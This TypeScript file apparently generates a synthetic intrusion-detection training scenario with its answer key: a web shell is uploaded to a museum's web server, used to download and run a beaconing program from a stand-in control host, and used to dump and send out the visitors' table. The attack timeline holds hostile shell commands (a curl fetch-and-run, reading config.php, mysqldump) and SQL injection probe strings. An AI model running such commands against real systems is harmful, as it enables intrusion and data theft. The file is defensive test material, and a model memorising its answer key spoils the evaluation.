import type { Scenario, SystemDescription } from '../../src/contracts/index.ts';
import { isoTime, type Rule } from './formats.ts';
import { addBrowsing, addDecoderChatter, addUpdates, drawTimes } from './noise.ts';
import { minuteUs, Recording, secondUs, timeUs } from './recording.ts';
import { account, address, artifact, domain, host, sampleSource, service, type Sample } from './sample.ts';
import { Site } from './site.ts';
import { renderSystemText } from './system-text.ts';

const intruder = '203.0.113.45';
const control = '203.0.113.99';
const controlName = 'telemetry.cdn-stat.example.net';
const cms = '10.30.1.15';
const db = '10.30.2.20';
const resolver = '10.30.2.5';
const sensors = { fast: 'fast.log', eve: 'eve.json', access: 'access.log' };
const shellUrl = '/content/uploads/2026/11/thumb_cache.php';
const siteName = 'www.harbourmuseum.example';
const bytesOut = 12_608_441;

const rules = {
  upload: { sid: 9_000_201, rev: 2, text: 'LOCAL WEB_SERVER PHP source in body of multipart upload', classification: 'Web Application Attack', priority: 1 },
  idOutput: { sid: 9_000_202, rev: 3, text: 'LOCAL WEB_SERVER Output of id command in HTTP reply, www-data', classification: 'Successful User Privilege Gain', priority: 1 },
  command: { sid: 9_000_203, rev: 1, text: 'LOCAL WEB_SERVER Shell command in query of script below upload folder', classification: 'Web Application Attack', priority: 1 },
  beacon: { sid: 9_000_211, rev: 4, text: 'LOCAL MALWARE Server contacts outside host at even distances over TLS', classification: 'A Network Trojan was detected', priority: 1 },
  newName: { sid: 9_000_212, rev: 1, text: 'LOCAL DNS Look-up of young domain by server', classification: 'Potentially Bad Traffic', priority: 2 },
  bigRead: { sid: 9_000_221, rev: 2, text: 'LOCAL SQL Large MySQL answer to web tier', classification: 'Large Scale Information Leak', priority: 2 },
  bigUpload: { sid: 9_000_222, rev: 2, text: 'LOCAL POLICY Server sends more than 10 MB to outside host', classification: 'Large Scale Information Leak', priority: 2 },
  sqlProbe: { sid: 9_000_231, rev: 6, text: 'LOCAL WEB_SERVER SQL words in query string', classification: 'Web Application Attack', priority: 1 },
  scannerAgent: { sid: 9_000_232, rev: 2, text: 'LOCAL SCAN User agent of a web scanner', classification: 'Attempted Information Leak', priority: 2 },
} as const satisfies Record<string, Rule>;

const description: Omit<SystemDescription, 'text'> = {
  hosts: [
    { name: 'fw-1', addresses: ['10.30.1.1', '10.30.2.1', '10.30.3.1', '192.0.2.18'], os: 'pfSense 2.8', role: 'firewall and router, Suricata sensor', zone: 'all', criticality: 4, services: ['vpn'], mayIsolate: false, mayRebuild: false },
    { name: 'cms-1', addresses: [cms], os: 'Debian 12', role: 'public web site, Apache with a PHP content management system', zone: 'dmz', criticality: 3, services: ['http', 'https', 'ssh'], mayIsolate: true, mayRebuild: true },
    { name: 'tickets-db', addresses: [db], os: 'Debian 12', role: 'MySQL: web content, visitors and ticket orders', zone: 'inside', criticality: 4, services: ['mysql', 'ssh'], mayIsolate: true, mayRebuild: true },
    { name: 'ns-1', addresses: [resolver], os: 'Debian 12', role: 'resolver', zone: 'inside', criticality: 4, services: ['dns'], mayIsolate: false, mayRebuild: true },
    { name: 'desk-21', addresses: ['10.30.3.21'], os: 'Windows 11', role: 'ticket office', zone: 'office', criticality: 2, services: [], mayIsolate: true, mayRebuild: true },
    { name: 'desk-22', addresses: ['10.30.3.22'], os: 'Windows 11', role: 'web editor', zone: 'office', criticality: 1, services: [], mayIsolate: true, mayRebuild: true },
  ],
  zones: [{ name: 'dmz', network: '10.30.1.0/24' }, { name: 'inside', network: '10.30.2.0/24' }, { name: 'office', network: '10.30.3.0/24' }],
  enforcementPoints: ['fw-1', 'ns-1'],
  accounts: [
    { name: 'cms_rw', role: 'MySQL account of the web site, reads and writes all its tables', isPrivileged: false, mustStay: false },
    { name: 'editor', role: 'web editor in the content management system', isPrivileged: false, mustStay: false },
    { name: 'www-data', role: 'account under which Apache runs', isPrivileged: false, mustStay: true },
  ],
  keys: [],
  backup: 'cms-1 and tickets-db are copied each night at 02:00 UTC to a store at the town hall; last good copy 2026-11-03 02:00 UTC.',
  rules: [
    'fw-1 and ns-1 may not be isolated.',
    'Memory and disk of a struck server are kept before it is cleaned or rebuilt.',
    'If visitors\' data has left the house, the director must be told: the law gives 72 hours.',
    'All clocks run on UTC.',
  ],
};
const about = 'A museum with a web site and ticket sales. cms-1 is published by fw-1 on ports 80 and 443; TLS ends on fw-1, so that Suricata on fw-1 sees plain HTTP on the way to cms-1; the address of the visitor is kept. '
  + 'cms-1 reaches MySQL on tickets-db with the account cms_rw. Uploaded pictures lie below /content/uploads and are served by Apache, PHP included.';

/** A PHP file uploaded through a plug-in, commands through it, an outbound program, the visitors' table read and sent out. */
export function makeWebShell(): Sample {
  const name = 'sample-web-shell';
  const site = new Site(new Recording(name), sensors);
  const startUs = timeUs('2026-11-03T08:30:00Z');
  const endUs = timeUs('2026-11-03T13:20:00Z');
  addQuiet(site, startUs, endUs);
  const times = addBreakIn(site, timeUs('2026-11-03T10:47:31Z') + 118_402, endUs);
  const text = renderSystemText('Harbour Museum: network and servers', about, description);
  const scenario: Scenario = {
    formatVersion: 1, id: name, title: 'Web shell through a picture upload, data of visitors sent out', family: 'web-shell', split: 'train', kind: 'compromise',
    source: sampleSource, system: { text, ...description },
    evidence: [{ file: sensors.fast, format: 'suricata-fast', folder: 'scenario' }, { file: sensors.eve, format: 'suricata-eve', folder: 'scenario' }, { file: sensors.access, format: 'apache-access', folder: 'scenario' }],
    ...truth(site, times),
  };
  return {
    name, scenario, files: site.recording.render(),
    about: `${intruder} uploads a PHP file through the gallery plug-in of cms-1, runs commands through it, starts a program that reports to ${controlName} (${control}), reads the visitors' table on tickets-db with the web site's own account, and sends ${bytesOut} bytes out. A second PHP file in the theme folder shows in no log. Noise: visitors, search robots, a web scanner that got nothing, the editor's own picture uploads, updates, decoder messages.`,
  };
}

const agents = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0', 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile/15E148 Safari/604.1', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/142.0.0.0 Safari/537.36'];

function addQuiet(site: Site, startUs: number, endUs: number): void {
  const dice = site.dice('visitors');
  const pages = ['/', '/visit', '/exhibitions/lighthouse-keepers', '/tickets', '/content/themes/basic/style.css', '/content/uploads/2026/10/ferry-1911.jpg', '/news', '/contact', '/favicon.ico'];
  for (const us of drawTimes(site, 'visitors', { fromUs: startUs, toUs: endUs, everyUs: 26 * secondUs })) {
    const robot = dice.isTrue(0.1);
    site.access(us, { client: robot ? '198.51.100.140' : `192.0.2.${dice.integer(180, 250)}`, method: dice.isTrue(0.04) ? 'POST' : 'GET', path: robot ? dice.pick(['/robots.txt', '/sitemap.xml', '/news']) : dice.pick(pages), status: dice.pick([200, 200, 200, 200, 304, 404]), bytes: dice.integer(310, 48_000), agent: robot ? 'ExampleSearchBot/2.1 (+https://search.example.org/bot)' : dice.pick(agents) });
  }
  addBrowsing(site, { clients: ['10.30.3.21', '10.30.3.22'], resolver, span: { fromUs: startUs, toUs: endUs, everyUs: 3 * minuteUs } });
  addUpdates(site, { hosts: [{ name: 'cms-1', address: cms }, { name: 'tickets-db', address: db }], resolver, atUs: timeUs('2026-11-03T08:55:00Z'), count: 12 });
  addDecoderChatter(site, [{ from: '192.0.2.201', to: cms, port: 80 }, { from: cms, to: db, port: 3306 }, { from: '192.0.2.233', to: cms, port: 80 }], { fromUs: startUs, toUs: endUs, everyUs: 75 * secondUs });
  for (const us of drawTimes(site, 'queries', { fromUs: startUs, toUs: endUs, everyUs: 4 * minuteUs })) site.flow(us, us + dice.integer(200, 4000) * 1000, { protocol: 'TCP', from: cms, fromPort: dice.port(), to: db, toPort: 3306 }, { toServer: dice.integer(900, 4000), toClient: dice.integer(4000, 90_000), service: 'mysql' });
  for (const us of [timeUs('2026-11-03T09:12:05Z'), timeUs('2026-11-03T11:31:50Z')]) {
    site.access(us, { client: '10.30.3.22', user: 'editor', method: 'POST', path: '/admin/media/upload', status: 201, bytes: 412, agent: agents[0] ?? '' }, 'editor');
    site.http(us, { protocol: 'TCP', from: '10.30.3.22', fromPort: dice.port(), to: cms, toPort: 80 }, { host: siteName, method: 'POST', url: '/admin/media/upload', agent: agents[0] ?? '', status: 201, bytes: 412 }, 'editor');
  }
  for (const us of drawTimes(site, 'web-scan', { fromUs: timeUs('2026-11-03T09:20:00Z'), toUs: timeUs('2026-11-03T09:34:00Z'), everyUs: 12 * secondUs })) {
    const url = dice.pick(['/wp-login.php', '/phpmyadmin/', '/news?id=1%20UNION%20SELECT%201,2', '/.env', '/xmlrpc.php', '/tickets?ref=%27%20OR%201=1--', '/cgi-bin/test.cgi']);
    const ends = { protocol: 'TCP', from: '198.51.100.72', fromPort: dice.port(), to: cms, toPort: 80 } as const;
    const isSql = /UNION|OR%20/.test(url);
    const request = { status: isSql ? 200 : 404, bytes: isSql ? 5120 : 276, agent: 'Mozilla/5.0 (compatible; sitecheck/0.9)' };
    site.access(us, { client: ends.from, method: 'GET', path: url, ...request }, 'web-scan');
    if (dice.isTrue(0.4)) site.alert(us + 900, isSql ? rules.sqlProbe : rules.scannerAgent, ends, ['web-scan'], { app_proto: 'http' });
  }
}

type Times = Record<'probe' | 'upload' | 'first' | 'config' | 'beacon' | 'read' | 'out', number>;

function addBreakIn(site: Site, probe: number, endUs: number): Times {
  const dice = site.dice('break-in');
  const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
  const request = (us: number, method: string, url: string, status: number, bytes: number, ...marks: string[]) => {
    const ends = { protocol: 'TCP', from: intruder, fromPort: dice.port(), to: cms, toPort: 80 } as const;
    site.access(us, { client: intruder, method, path: url, status, bytes, agent }, ...marks);
    site.http(us + 2100, ends, { host: siteName, method, url, agent, status, bytes }, ...marks);
    return ends;
  };
  let us = probe;
  for (const url of ['/', '/readme.html', '/content/plugins/', '/content/plugins/gallery-lite/readme.txt', '/content/plugins/gallery-lite/upload.php']) request(us += dice.integer(2, 9) * secondUs, 'GET', url, url.endsWith('plugins/') ? 403 : 200, dice.integer(300, 6000), 'probe');
  const upload = us + 21 * secondUs;
  site.alert(upload + 2600, rules.upload, request(upload, 'POST', '/content/plugins/gallery-lite/upload.php', 200, 71, 'upload'), ['upload'], { app_proto: 'http', http: { hostname: siteName, url: '/content/plugins/gallery-lite/upload.php', http_method: 'POST', status: 200, length: 71 } });
  const commands = ['id', 'uname%20-a', 'ls%20-la%20..%2F', 'cat%20..%2F..%2F..%2Fconfig.php', 'ps%20aux', `curl%20-so%20%2Fvar%2Ftmp%2F.sess-gc%20http%3A%2F%2F${control}%2Fg`, 'chmod%20755%20%2Fvar%2Ftmp%2F.sess-gc', '%2Fvar%2Ftmp%2F.sess-gc', 'mysqldump%20-h%2010.30.2.20%20-u%20cms_rw%20tickets%20visitors', 'ls%20-l%20%2Fvar%2Ftmp'];
  us = upload + 6 * secondUs;
  const first = us;
  let configUs = us;
  let fetchUs = us;
  let readUs = us;
  for (const [index, command] of commands.entries()) {
    const url = `${shellUrl}?c=${command}`;
    const ends = request(us, 'GET', url, 200, dice.integer(40, 3900), 'shell', ...(index === 3 ? ['config'] : []), ...(index === 5 ? ['fetch'] : []), ...(index === 8 ? ['read'] : []));
    site.alert(us + 2500, rules.command, ends, ['shell'], { app_proto: 'http', http: { hostname: siteName, url, http_method: 'GET', status: 200 } });
    if (index === 0) site.alert(us + 9800, rules.idOutput, { ...ends, from: ends.to, fromPort: ends.toPort, to: ends.from, toPort: ends.fromPort }, ['shell'], { app_proto: 'http' });
    if (index === 3) configUs = us;
    if (index === 5) fetchUs = us;
    if (index === 8) readUs = us;
    us += dice.integer(25, 110) * secondUs + (index === 7 ? 24 * minuteUs : 0);
  }
  site.http(fetchUs + 300_000, { protocol: 'TCP', from: cms, fromPort: dice.port(), to: control, toPort: 80 }, { host: control, method: 'GET', url: '/g', agent: 'curl/7.88.1', status: 200, bytes: 918_016, type: 'application/octet-stream' }, 'fetch');
  const beacon = fetchUs + 4 * minuteUs;
  site.dns(beacon - 400_000, cms, resolver, controlName, control, 'beacon');
  site.alert(beacon - 390_000, rules.newName, { protocol: 'UDP', from: cms, fromPort: dice.port(), to: resolver, toPort: 53 }, ['beacon'], { app_proto: 'dns' });
  for (let at = beacon, count = 0; at < endUs; at += 60 * secondUs + dice.integer(-900, 900) * 1000, count += 1) {
    const ends = { protocol: 'TCP', from: cms, fromPort: dice.port(), to: control, toPort: 443 } as const;
    site.tls(at, ends, controlName, 'beacon');
    if (count >= 4 && count % 3 === 0) site.alert(at + 31_000, rules.beacon, ends, ['beacon'], { app_proto: 'tls', tls: { sni: controlName, version: 'TLS 1.3' } });
  }
  const query = { protocol: 'TCP', from: cms, fromPort: dice.port(), to: db, toPort: 3306 } as const;
  site.alert(readUs + 3 * secondUs, rules.bigRead, { ...query, from: db, fromPort: 3306, to: cms, toPort: query.fromPort }, ['read']);
  site.flow(readUs + 200_000, readUs + 9 * secondUs, query, { toServer: 6120, toClient: 48_771_302, service: 'mysql' }, 'read');
  const out = readUs + 3 * minuteUs + 112_000;
  const outEnds = { protocol: 'TCP', from: cms, fromPort: dice.port(), to: control, toPort: 443 } as const;
  site.tls(out, outEnds, controlName, 'out');
  site.alert(out + 40 * secondUs, rules.bigUpload, outEnds, ['out'], { app_proto: 'tls' });
  site.flow(out, out + 52 * secondUs, outEnds, { toServer: bytesOut, toClient: 88_310, service: 'tls' }, 'out');
  return { probe, upload, first, config: configUs, beacon, read: readUs, out };
}

function truth(site: Site, times: Times): Pick<Scenario, 'attack' | 'compromised' | 'channels' | 'artifacts' | 'rootCauses' | 'damage' | 'next' | 'distractors'> {
  const cite = (mark: string, limit?: number) => site.recording.cite(mark, limit);
  const step = (id: string, ids: [string, string], at: number, from: Scenario['attack']['steps'][number]['from'], to: Scenario['attack']['steps'][number]['from'], what: string) =>
    ({ id, tacticId: ids[0], techniqueId: ids[1], time: isoTime(at), from, to, outcome: 'succeeded' as const, what });
  const look = (on: string) => [{ verb: 'scan_host' as const, targets: [on] }];
  const logs = (on: string) => [{ verb: 'collect_logs' as const, targets: [on] }];
  return {
    attack: { steps: [
      step('step-probe', ['TA0043', 'T1595.002'], times.probe, address(intruder), host('cms-1'), 'Looks for the gallery plug-in and its version.'),
      step('step-upload', ['TA0001', 'T1190'], times.upload, address(intruder), host('cms-1'), 'Uploads a PHP file through the plug-in.'),
      step('step-shell', ['TA0003', 'T1505.003'], times.first, address(intruder), host('cms-1'), 'Runs commands through the file.'),
      step('step-config', ['TA0006', 'T1552.001'], times.config, address(intruder), host('cms-1'), 'Reads the database password from the configuration.'),
      step('step-control', ['TA0011', 'T1071.001'], times.beacon, host('cms-1'), address(control), 'A program reports over TLS once a minute.'),
      step('step-read', ['TA0009', 'T1213.006'], times.read, host('cms-1'), host('tickets-db'), 'Dumps the visitors\' table.'),
      step('step-out', ['TA0010', 'T1041'], times.out, host('cms-1'), address(control), 'Sends the dump out.'),
    ] },
    compromised: [
      { id: 'held-cms', ref: host('cms-1'), what: 'Commands run as www-data.', shownBy: { lines: cite('shell', 2), commands: look('cms-1') } },
      { id: 'held-cms-rw', ref: account('cms_rw'), what: 'Its password was read from the configuration and used.', shownBy: { lines: [...cite('config', 1), ...cite('read', 1)], commands: logs('tickets-db') } },
    ],
    channels: [
      { id: 'way-shell', from: address(intruder), to: host('cms-1'), through: [address(intruder), artifact('left-shell'), service('http', 'cms-1')], what: 'Commands through the uploaded file.' },
      { id: 'way-second', from: address(intruder), to: host('cms-1'), through: [address(intruder), artifact('left-second-shell'), service('http', 'cms-1')], what: 'The same through the second file.' },
      { id: 'way-control', from: host('cms-1'), to: address(control), through: [address(control), domain(controlName), artifact('left-program')], what: 'The program takes orders.' },
      { id: 'way-database', from: host('cms-1'), to: host('tickets-db'), through: [account('cms_rw')], what: 'Queries with the stolen password.' },
    ],
    artifacts: [
      { id: 'left-shell', host: 'cms-1', kind: 'web-shell', name: shellUrl, what: 'The uploaded file.', shownBy: { lines: cite('shell', 1), commands: look('cms-1') } },
      { id: 'left-second-shell', host: 'cms-1', kind: 'web-shell', name: '/content/themes/basic/footer-cache.php', what: 'A second copy; no log line shows it.', shownBy: { lines: [], commands: look('cms-1') } },
      { id: 'left-program', host: 'cms-1', kind: 'implant', name: '/var/tmp/.sess-gc', what: 'Program that reports once a minute.', shownBy: { lines: cite('fetch', 1), commands: look('cms-1') } },
    ],
    rootCauses: [
      { id: 'cause-plug-in', kind: 'vulnerability', on: host('cms-1'), fixes: [{ verb: 'patch_vulnerability', target: host('cms-1') }], what: 'The gallery plug-in takes any file from anybody.', shownBy: { lines: cite('upload', 1), commands: logs('cms-1') } },
      { id: 'cause-scripts-run', kind: 'misconfiguration', on: host('cms-1'), fixes: [{ verb: 'change_configuration', target: host('cms-1') }], what: 'PHP runs below the upload folder.', shownBy: { lines: cite('shell', 1), commands: logs('cms-1') } },
    ],
    damage: [{ id: 'visitors-stolen', kind: 'data-stolen', host: 'tickets-db', what: 'The visitors\' table left the house.', shownBy: { lines: [...cite('read', 1), ...cite('out', 2)], commands: logs('tickets-db') } }],
    next: [
      { id: 'next-shell', channel: 'way-second', chancePerTenMinutes: 0.3, effect: 'artifact-returns', on: artifact('left-shell'), what: 'Puts the file back.', lines: [{ file: sensors.access, text: `${intruder} - - [{time}] "POST /content/themes/basic/footer-cache.php HTTP/1.1" 200 64 "-" "Mozilla/5.0"` }] },
      { id: 'next-program', channel: 'way-shell', chancePerTenMinutes: 0.3, effect: 'artifact-returns', on: artifact('left-program'), what: 'Starts the program again.', lines: [{ file: sensors.access, text: `${intruder} - - [{time}] "GET ${shellUrl}?c=%2Fvar%2Ftmp%2F.sess-gc HTTP/1.1" 200 51 "-" "Mozilla/5.0"` }] },
      { id: 'next-orders', channel: 'way-database', chancePerTenMinutes: 0.05, effect: 'data-stolen', on: host('tickets-db'), what: 'Reads the ticket orders too.', lines: [] },
    ],
    distractors: [
      { id: 'web-scan', kind: 'scanner', refs: [address('198.51.100.72')], what: 'Tries paths and SQL words; the pages it got are the ordinary ones.', lines: cite('web-scan') },
      { id: 'search-robot', kind: 'innocent-address', refs: [address('198.51.100.140')], what: 'A search engine.', lines: [] },
      { id: 'editor', kind: 'look-alike', refs: [account('editor'), host('desk-22')], what: 'The editor uploads pictures.', lines: cite('editor') },
      { id: 'office', kind: 'innocent-host', refs: [host('desk-21')], what: 'The ticket office reads the news.', lines: [] },
    ],
  };
}
